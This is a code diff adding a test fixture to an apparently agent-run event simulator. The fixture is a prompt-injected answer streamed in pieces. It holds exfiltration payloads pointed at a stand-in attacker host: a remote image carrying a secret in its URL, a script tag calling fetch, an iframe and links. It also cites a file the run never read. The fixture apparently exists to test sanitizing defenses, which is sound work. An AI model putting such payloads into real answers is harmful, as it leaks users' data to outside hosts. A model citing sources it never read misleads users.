@@ -315,3 +315,36 @@ export function reactRun(): CompilerEvent[] {
   r.llmEnd(t + 700, call, t + 1, 'react', 4, [2400, 40], 280);
   return r.end(t + 710);
 }
+
+/**
+ * A file told the joiner to leak: its answer holds a remote image, HTML that loads or runs something, an outside
+ * link, citations of files the run read and one of a file it never saw. Streamed in pieces that cut constructs apart.
+ */
+export const HOSTILE_ANSWER = [
+  'The policy is in `src/net/retry.ts:8`, its defaults at src/net/retry.ts:9-11.\n',
+  '![x](https://attacker.example/leak?d=secret)\n',
+  '<img src="https://attacker.example/x">\n',
+  '[click](https://attacker.example)\n',
+  '<script>fetch("https://attacker.example/s")</script>\n',
+  '<iframe src="https://attacker.example/f"></iframe>\n',
+  '<a href="https://attacker.example/a">docs</a> and https://attacker.example/bare\n',
+  'Compare lib/other.ts:3, which no task read.',
+].join('');
+
+export function hostileAnswerRun(): CompilerEvent[] {
+  const r = new RunScript('run-hostile', 'What are the retry defaults?');
+  const p = r.llmStart(1, 'planner', 1);
+  r.emit(1, { type: 'plan-start', round: 1 });
+  r.plan(200, { id: 1, tool: 'read_file', args: '"src/net/retry.ts"' }).start(201, 1, { path: 'src/net/retry.ts' });
+  r.plan(220, { id: 2, tool: 'search_text', args: '"maxRetries"' }).start(221, 2, { pattern: 'maxRetries' });
+  r.emit(300, { type: 'plan-end', round: 1, tasks: 2 }).llmEnd(300, p, 1, 'planner', 1, [900, 40], 120);
+  r.finish(400, 1, 'ok', '8 export const retryPolicy = {\n9   maxRetries: 3,', { locations: [loc('src/net/retry.ts', 1)] });
+  r.finish(420, 2, 'ok', 'src/net/retry.ts:9:   maxRetries: 3,', { locations: [loc('src/net/retry.ts', 9, 3)] });
+  r.emit(430, { type: 'join-start', round: 1 });
+  const j = r.llmStart(431, 'joiner', 1);
+  // Deltas cut inside the image, the tag and the citation.
+  const cuts = [0, 60, 75, 130, 160, 250, HOSTILE_ANSWER.length - 20, HOSTILE_ANSWER.length];
+  for (let i = 0; i + 1 < cuts.length; i++) r.say(500 + i * 10, HOSTILE_ANSWER.slice(cuts[i], cuts[i + 1]));
+  r.llmEnd(600, j, 431, 'joiner', 1, [1200, 80], 90);
+  return r.end(610);
+}
